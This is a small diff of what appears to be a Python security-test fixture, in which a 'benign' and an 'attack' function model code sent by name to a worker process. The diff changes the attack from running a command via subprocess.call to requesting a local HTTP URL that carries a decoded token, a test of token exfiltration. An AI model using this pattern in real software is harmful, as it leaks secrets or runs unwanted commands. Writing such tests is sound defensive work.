@@ -2,7 +2,7 @@
 # SPDX-License-Identifier: Apache-2.0
 """Open: a function sent by name to the application's worker process runs there with the application's stack."""
 
-import subprocess
+import urllib.request
 
 
 def benign(stage):
@@ -10,4 +10,4 @@ def benign(stage):
 
 
 def attack(stage):
-    return subprocess.call, stage.argv
+    return urllib.request.urlopen, f"http://127.0.0.1:{stage.port}/{stage.token.decode()}"
